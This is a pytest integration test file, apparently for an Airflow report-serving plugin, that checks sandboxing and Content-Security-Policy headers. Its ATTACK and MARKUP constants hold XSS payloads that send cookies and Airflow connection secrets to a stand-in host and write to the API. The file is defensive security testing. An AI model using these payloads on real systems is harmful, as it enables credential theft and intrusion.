"""A hostile report cannot reach Airflow's API or another host.

An admin opens it in a real browser.
"""

import json
import time
from urllib.parse import unquote

import httpx
import pytest

from include import ledger
from include.data.pages import SCRIPTS_SUFFIX, script_hash
from tests.integration.report_pages.conftest import PATH

pytestmark = [pytest.mark.timeout(600)]
API = "/api/v2/"
# Every known attack of a script. It runs in the report. HOST is the foreign host.
ATTACK = """
window.__xss = 1;
document.documentElement.dataset.ran = "yes";
(async () => {
  const attempt = async (act) => { try { await act() } catch (error) {} };
  const send = (text) => { new Image().src = "HOST/img?" + text; navigator.sendBeacon("HOST/beacon", text); fetch("HOST/fetch", {mode: "no-cors"}) };
  await attempt(() => send(document.cookie));
  await attempt(async () => send(await (await fetch("/api/v2/connections", {credentials: "include"})).text()));
  await attempt(async () => send(await (await parent.fetch("/api/v2/connections")).text()));
  await attempt(async () => send(await (await top.fetch("/api/v2/connections")).text()));
  await attempt(() => fetch("/api/v2/variables", {method: "POST", credentials: "include", mode: "no-cors", body: "{}"}));
  await attempt(() => { const frame = document.createElement("iframe"); frame.src = "/api/v2/connections"; document.body.append(frame);
                        frame.onload = () => attempt(() => send(frame.contentWindow.fetch)) });
  await attempt(() => { const frame = document.createElement("iframe"); frame.srcdoc = "<img src='HOST/srcdoc'>"; document.body.append(frame) });
  await attempt(() => { const form = document.createElement("form"); form.action = "/api/v2/variables"; form.method = "post"; document.body.append(form);
                        form.submit() });
  await attempt(() => new WebSocket("HOST/ws".replace("http", "ws")));
  await attempt(() => new EventSource("/api/v2/version"));
  await attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('HOST/worker')"]))));
  await attempt(() => { const script = document.createElement("script"); script.src = "HOST/script.js"; document.head.append(script) });
  await attempt(() => { open("HOST/popup") });
  await attempt(() => { top.location = "HOST/top" });
  await attempt(() => { parent.location = "HOST/parent" });
  setTimeout(() => { location = "HOST/self?" + document.title }, 2500);
})();
"""  # noqa: E501
# Attacks that need no script, or run one without a <script> element.
MARKUP = """<title>secret</title><img src=x onerror="window.__xss=1;new Image().src='HOST/onerror'"><svg onload="window.__xss=1"></svg>
<link rel="preconnect" href="HOST/"><LINK rel=prefetch href="HOST/prefetch"><link rel="stylesheet" href="HOST/style.css"><style>@import "HOST/import.css";
body{background:url(HOST/background)}</style><iframe src="HOST/frame"></iframe><iframe src="javascript:parent.__xss=1"></iframe>
<object data="HOST/object"></object>
<embed src="HOST/embed"><video src="HOST/video" poster="HOST/poster" autoplay></video><base href="HOST/"><form id=f action="HOST/form"></form>
<iframe srcdoc="<script>top.__xss=1</script><img src='HOST/nested'>"></iframe><meta http-equiv="refresh" content="1;url=HOST/refresh">"""  # noqa: E501


def write(folder, host: str, name: str = "index.html", *, declared: bool = False, markup: str = MARKUP) -> None:
    """Write a report with the attack.

    With ``declared``, its script is in the list of allowed scripts, so it runs.
    """
    script = ATTACK.replace("HOST", host)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(f"<!doctype html><p>a report</p>{markup.replace('HOST', host)}<script>{script}</script>")
    if declared:
        (folder / f"{name}{SCRIPTS_SUFFIX}").write_text(json.dumps([script_hash(script)]))


@pytest.mark.parametrize("in_ui", [False, True], ids=["by its address", "in Airflow's UI"])
def test_no_script_of_a_report_runs_that_its_writer_did_not_list(open_page, site, listener, folder, in_ui):
    write(folder, listener.url)
    opened = open_page(PATH, wait_s=3, in_ui=in_ui)
    assert not opened.ran and site.asked_with_login(but=(unquote(PATH),)) == [] and listener.heard == []


@pytest.mark.parametrize("in_ui", [False, True], ids=["by its address", "in Airflow's UI"])
def test_a_script_that_runs_reaches_neither_the_api_nor_another_host(browser, open_page, site, listener, folder, in_ui):
    """A script that runs reaches neither the API nor another host.

    The script is listed, as if the attacker could also write the list.
    """
    write(folder, listener.url, declared=True, markup="")
    open_page(PATH, in_ui=in_ui)
    driver = browser.driver
    for _ in range(2 if in_ui else 1):
        driver.switch_to.frame(0)
    assert driver.execute_script("return [document.documentElement.dataset.ran, self.origin]") == ["yes", "null"]
    driver.switch_to.default_content()
    time.sleep(4)
    assert (
        driver.current_url == f"{site.url}/ui-frame" if in_ui else driver.current_url.startswith(f"{site.url}/airloop")
    )
    assert [path for _, path, _ in site.asked if path.startswith(API)] == []
    assert site.asked_with_login(but=(unquote(PATH),)) == [] and listener.heard == []


HOSTILE_XML = """<{root}><body xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">{script}</script></body></{root_name}>"""


@pytest.mark.parametrize(
    "name",
    [
        "x.svg",
        "x.xhtml",
        "x.xml",
        "x.html.txt",
        "x.json",
        "x.htm",
        "x.shtml",
        "x.mhtml",
        "x",
        "x.js",
        "x.pdf",
        "X.HTML",
        "x.xsl",
    ],
)
def test_no_name_of_a_file_escapes_the_policy(browser, open_page, site, listener, folder, name):
    script = ATTACK.replace("HOST", listener.url)
    folder.mkdir(parents=True)
    (folder / "index.html").write_text("a report")
    if name.endswith((".svg", ".xhtml", ".xml", ".xsl")):
        root = (
            'svg xmlns="http://www.w3.org/2000/svg"'
            if name.endswith("svg")
            else 'html xmlns="http://www.w3.org/1999/xhtml"'
        )
        (folder / name).write_text(
            HOSTILE_XML.format(root=root, root_name=root.partition(" ")[0], script=f"<![CDATA[{script}]]>")
        )
    else:
        write(folder, listener.url, name)
    open_page(PATH + name, wait_s=1.5)
    assert listener.heard == [] and [path for _, path, _ in site.asked if path.startswith(API)] == []


def test_every_answer_has_the_headers(site, token, folder):
    """Error responses of the plugin, of its framework and of a login have the headers, too."""
    write(folder, "http://127.0.0.1:1")
    browser = httpx.Client(base_url=site.url, cookies={"_token": token}, timeout=60, trust_env=False)
    answers = {
        200: browser.get(PATH),
        404: browser.get(f"{PATH}nothing.html"),
        401: httpx.get(f"{site.url}{PATH}", trust_env=False),
        405: browser.post(PATH),
        1404: browser.get("/airloop/nothing"),
        2404: browser.get(PATH.replace("flights", "nobody")),
        2200: browser.get(f"{PATH}index.html"),
        1200: browser.get(f"{PATH}index.html{SCRIPTS_SUFFIX}x"),
    }
    assert {code % 1000: answer.status_code for code, answer in answers.items() if code < 1000} == {
        200: 200,
        404: 404,
        401: 401,
        405: 405,
    }
    for answer in answers.values():
        policy = answer.headers["content-security-policy"]
        assert (
            policy.startswith("sandbox allow-scripts")
            and "allow-same-origin" not in policy
            and "'unsafe-eval'" not in policy
        )
        for directive in (
            "default-src 'none'",
            "script-src 'none'",
            "connect-src 'none'",
            "form-action 'none'",
            "base-uri 'none'",
            "frame-ancestors 'self'",
        ):
            assert directive in policy, (answer.status_code, directive)
        assert (
            answer.headers["x-content-type-options"] == "nosniff" and answer.headers["referrer-policy"] == "no-referrer"
        )
        assert (
            answer.headers["cross-origin-resource-policy"] == "same-origin"
            and answer.headers["cross-origin-opener-policy"] == "same-origin"
        )


def test_a_user_is_told_which_installation_this_is(site, token):
    """The plugin returns the installation's id to an authenticated user.

    `airloop run` of another installation queries it, and then starts nothing.
    """
    url = f"{site.url}/airloop/installation"
    assert httpx.get(url, trust_env=False).status_code == 401
    answer = httpx.get(url, headers={"Authorization": f"Bearer {token}"}, trust_env=False)
    assert answer.json() == {"installation": ledger.installation()}


@pytest.mark.parametrize(
    "listed",
    [
        "not json",
        "{}",
        "[\"'unsafe-inline'\"]",
        '["sha256-x; script-src *"]',
        '[1, null, "*"]',
        '["sha256-AAAA\\r\\nX: y"]',
    ],
)
def test_a_list_of_scripts_adds_nothing_but_hashes(site, token, folder, listed):
    write(folder, "http://127.0.0.1:1")
    (folder / f"index.html{SCRIPTS_SUFFIX}").write_text(listed)
    answer = httpx.get(f"{site.url}{PATH}", cookies={"_token": token}, timeout=60, trust_env=False)
    assert answer.status_code == 200 and "script-src 'none'" in answer.headers["content-security-policy"]
    assert "unsafe-inline'; img" in answer.headers["content-security-policy"] and "x" not in answer.headers


def test_a_page_cannot_leave_its_frame_by_its_text(open_page, folder):
    folder.mkdir(parents=True)
    (folder / "index.html").write_text('"></iframe><script>window.__xss=1</script><p>&quot;&gt;</p>')
    opened = open_page(PATH)
    assert not opened.ran and '">' in opened.text
